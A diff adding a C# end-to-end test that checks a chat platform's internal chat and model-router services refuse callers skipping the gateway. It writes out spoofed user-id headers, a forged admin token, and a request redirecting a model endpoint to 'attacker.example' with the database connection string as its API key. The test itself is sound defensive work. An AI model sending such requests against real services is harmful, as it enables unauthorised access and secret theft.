@@ -194,6 +194,41 @@ public sealed class ChatTurnEndToEndTests(PlatformFixture platform)
         Assert.Equal(HttpStatusCode.NotFound, forgedResponse.StatusCode);
     }
 
+    [Fact]
+    public async Task Chat_and_the_router_refuse_callers_that_skip_the_gateway()
+    {
+        var ct = TestContext.Current.CancellationToken;
+        using var owner = await SignedInClientAsync(ct);
+        var conversation = await CreateConversationAsync(owner, FastModel, ct);
+        var ownerId = (await owner.GetFromJsonAsync<JsonElement>("/v1/me", ct)).GetProperty("id").GetString();
+        using var chat = Platform.CreateHttpClient("chat");
+        using var router = Platform.CreateHttpClient("model-router");
+
+        // A neighbour on the internal network: the owner's id in a header, the owner's own access token, a forged token.
+        using var byHeader = new HttpRequestMessage(HttpMethod.Get, $"/v1/conversations/{conversation}");
+        byHeader.Headers.Add("X-User-Id", ownerId);
+        using var byUserToken = new HttpRequestMessage(HttpMethod.Get, $"/v1/conversations/{conversation}");
+        byUserToken.Headers.Authorization = owner.DefaultRequestHeaders.Authorization;
+        using var byForgedToken = new HttpRequestMessage(HttpMethod.Get, $"/v1/conversations/{conversation}");
+        byForgedToken.Headers.Authorization = ChatPlatform.Testing.InternalTokens.Bearer(ChatPlatform.Testing.InternalTokens.Mint("admin", Guid.Parse(ownerId!)));
+        using var attack = await router.PutAsJsonAsync("/v1/admin/deployments/x", new
+        {
+            modelId = FastModel, provider = "openAICompatible", providerModel = "m", endpoint = "http://attacker.example/v1",
+            apiKeySetting = "ConnectionStrings:chatdb",
+        }, ct);
+        using var completion = await router.PostAsJsonAsync("/v1/chat/completions", new { model = FastModel, messages = new[] { new { role = "user", content = "Hi" } } }, ct);
+
+        HttpResponseMessage[] refused =
+        [
+            await chat.SendAsync(byHeader, ct), await chat.SendAsync(byUserToken, ct), await chat.SendAsync(byForgedToken, ct),
+            attack, completion, await router.GetAsync("/v1/models", ct), await router.GetAsync("/v1/admin/audit", ct),
+        ];
+
+        Assert.All(refused, response => Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode));
+        Assert.Equal(HttpStatusCode.OK, (await router.GetAsync("/health", ct)).StatusCode);
+        Assert.Equal(HttpStatusCode.OK, (await owner.GetAsync($"/v1/conversations/{conversation}", ct)).StatusCode);
+    }
+
     private async Task<HttpClient> SignedInClientAsync(CancellationToken ct)
     {
         var client = Platform.CreateHttpClient("gateway");
